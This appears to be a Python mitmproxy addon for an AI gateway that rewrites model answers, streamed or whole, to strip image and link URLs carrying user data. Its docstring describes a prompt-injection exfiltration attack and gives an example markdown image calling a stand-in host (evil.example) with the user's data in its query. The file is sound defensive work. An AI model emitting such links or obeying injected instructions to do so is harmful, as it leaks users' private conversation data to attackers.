"""Remove exfiltration links from the model's answers before the client renders them.

An injected instruction makes the model write an image whose URL carries what the conversation held
(`![](https://evil.example/p.gif?d=<the user's data>)`); the client fetches it as soon as it renders the answer,
no click needed, and the data is gone. A response rule can only withhold a non-streamed answer, and a streamed one
has reached the client by the time it is judged. So with `gateway_strip_exfiltration_links` on, this stage rewrites
the answer itself: the URL of every image or link that carries data (dlp.injection.data_in_url: long encoded or
personal values in its query, path or host) becomes a fragment the client never fetches, in whole JSON answers and
in streams event by event (dlp.answer.StreamedAnswer holds back a link still being written, so a URL split across
events is judged whole). Everything else of the answer is left as it came; the audit's reason says how many links
were removed, and its completion keeps the answer as the model wrote it.

It runs after Redact and AnswerTools, chained to the client's end of Extract's stream tap, so it sees the answer
with placeholders restored: a link carrying a restored value is caught too.
"""

from __future__ import annotations

import logging

from mitmproxy import ctx, http

from core.interaction import KEY, Interaction
from dlp.answer import StreamedAnswer, framing_of
from dlp.injection import LinkStripper
from providers.encoding import EncodingError, decode

log = logging.getLogger(__name__)


class StripLinks:
    def __init__(self) -> None:
        self.streams: dict[str, LinkStripper] = {}  # flow id -> the stripper of its streamed answer, until it ends

    def load(self, loader) -> None:
        loader.add_option("gateway_strip_exfiltration_links", bool, False,
                          "Remove exfiltration links from AI answers (the URL of a markdown or HTML image or link "
                          "that carries data), streamed or not, before the client renders them.")

    def request(self, flow: http.HTTPFlow) -> None:
        it: Interaction | None = flow.metadata.get(KEY)
        if ctx.options.gateway_strip_exfiltration_links and it is not None and flow.response is None \
                and it.exchange.stream:
            auth = flow.request.headers.get("authorization", "")
            if not auth.startswith("AWS4-HMAC-SHA256"):  # a stream is read event by event: uncompressed
                flow.request.headers["accept-encoding"] = "identity"

    def responseheaders(self, flow: http.HTTPFlow) -> None:
        """Chains the stripper to the client's end of Extract's tap (after the stages chained before it)."""
        it: Interaction | None = flow.metadata.get(KEY)
        tap = it.stages.tap if it is not None else None
        if not ctx.options.gateway_strip_exfiltration_links or flow.response is None or tap is None \
                or flow.response.stream is not tap:
            return
        content_type, framing = framing_of(flow.response.headers.get("content-type", ""),
                                           flow.response.headers.get("content-encoding", "identity"))
        if not framing:
            it.exchange.warn(f"exfiltration links not removed from the answer: {content_type or 'untyped'} stream "
                             f"is not readable event by event")
            return
        if "content-length" in flow.response.headers:  # a removed URL changes the length
            del flow.response.headers["content-length"]
            if not flow.response.is_http2 and not flow.response.is_http3:
                flow.response.headers["transfer-encoding"] = "chunked"
        stripper = self.streams[flow.id] = LinkStripper()
        tap.then = _Stripping(StreamedAnswer(stripper, framing), tap.then)

    def response(self, flow: http.HTTPFlow) -> None:
        it: Interaction | None = flow.metadata.get(KEY)
        stripper = self.streams.pop(flow.id, None)
        if it is None or flow.response is None or not ctx.options.gateway_strip_exfiltration_links:
            return
        if stripper is None and not flow.response.stream and flow.response.status_code == 200:
            try:  # capped like every body the gateway decodes
                content = decode(flow.response.raw_content or b"", flow.response.headers.get("content-encoding"),
                                 ctx.options.gateway_max_decoded_bytes)
            except EncodingError as e:
                it.exchange.warn(f"exfiltration links not removed from the answer: {e}")
                return
            stripper = LinkStripper()
            stripped = stripper.json_body(content)
            if stripped is not content:
                flow.response.content = stripped
        if stripper is not None and stripper.removed:
            it.note(f"answer: {stripper.removed} exfiltration link(s) removed")

    def error(self, flow: http.HTTPFlow) -> None:
        self.streams.pop(flow.id, None)


class _Stripping:
    """The tap's `then`: what the client receives, links removed (after the stage chained before, if any). A
    stripper that fails passes the rest through (StreamedAnswer gives up on its own errors)."""

    def __init__(self, answer: StreamedAnswer, before) -> None:
        self.answer, self.before = answer, before

    def __call__(self, chunk: bytes) -> bytes:
        data = self.before(chunk) if self.before is not None else chunk
        out = self.answer.feed(data) if data else b""
        return out + (self.answer.finish() if not chunk else b"")  # b"": the upstream's end of the stream
